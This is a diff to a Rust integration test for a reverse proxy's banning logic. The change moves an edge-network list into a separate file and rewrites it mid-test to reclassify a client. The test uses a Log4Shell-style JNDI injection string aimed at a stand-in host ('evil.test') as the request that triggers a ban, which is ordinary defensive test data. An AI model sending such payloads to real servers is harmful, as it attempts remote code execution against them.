@@ -153,7 +153,7 @@ async fn what_is_done_through_a_proxy_that_is_not_trusted_bans_nobody() {
     const PROXY: &str = "198.51.100.1";
     const CLIENT: &str = "203.0.113.1";
     let origin = Origin::saying("ok").await;
-    let edge = "[networks.edge]\nnetworks = [\"198.51.100.0/24\"]\nproxy = true\n";
+    let edge = "[networks.edge]\nnetworks = [\"198.51.100.0/24\"]\nfile = \"edge.txt\"\nproxy = true\n";
     let proxy = Proxy::builder()
         .set("server.trusted_proxies", "[\"127.0.0.1/32\"]")
         .set("server.proxy_protocol", "true")
@@ -163,6 +163,8 @@ async fn what_is_done_through_a_proxy_that_is_not_trusted_bans_nobody() {
         .site(SITE, &format!("plain_http = true\n{}", origin.backends()))
         .start()
         .await;
+    let list = proxy.config().with_file_name("edge.txt");
+    std::fs::write(&list, "192.0.2.0/24\n").unwrap();
     proxy.edit_config(|text| format!("{text}\n{edge}"));
     assert_eq!(proxy.reload().await["refused"], false);
     let exploit = "/?x=${jndi:ldap://evil.test/a}";
@@ -183,7 +185,7 @@ async fn what_is_done_through_a_proxy_that_is_not_trusted_bans_nobody() {
     assert_eq!(bans[0]["net"], format!("{CLIENT}/32"), "{bans}");
     assert!(bans[0]["why"].as_str().unwrap().contains("the last: patch"), "{bans}");
     // The client turns out to be behind a proxy: what it was banned for was not one client's doing. A person's word holds.
-    proxy.edit_config(|text| text.replace("198.51.100.0/24", "203.0.113.0/24"));
+    std::fs::write(&list, "203.0.113.0/24\n").unwrap();
     assert_eq!(proxy.reload().await["refused"], false);
     assert_eq!(knock(&proxy, CLIENT, "/").await, Some(200));
     let banned = proxy.command_async(&["ban", CLIENT]).await;
